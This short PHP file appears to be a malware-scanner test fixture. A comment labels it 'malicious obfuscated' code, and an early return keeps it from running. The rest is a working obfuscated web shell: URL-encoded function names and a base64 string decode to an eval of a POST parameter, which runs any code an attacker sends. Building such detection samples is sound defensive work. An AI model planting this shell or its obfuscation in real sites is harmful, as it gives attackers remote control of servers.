<?php return; // want: malicious obfuscated php.code.request
parse_str('0=' . '%73%74%72%72%65%76' . '&1=%73%74%72%5f%72%6f%74%31%33&2=%62%61%73%65%36%34%5f%64%65%63%6f%64%65', $w);
eval($w[0]($w[1]($w[2]('OyldMVtHRkJDXyQoeW5pcg=='))));
